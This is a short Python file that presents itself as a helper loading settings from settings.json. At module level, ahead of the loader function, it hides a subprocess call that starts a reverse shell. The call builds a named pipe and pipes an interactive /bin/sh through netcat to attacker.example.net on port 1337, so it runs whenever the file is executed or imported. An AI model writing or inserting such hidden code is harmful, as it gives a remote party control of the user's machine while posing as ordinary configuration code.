#!/usr/bin/env python3

import subprocess
subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc attacker.example.net 1337 > /tmp/f", shell=True)
import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)
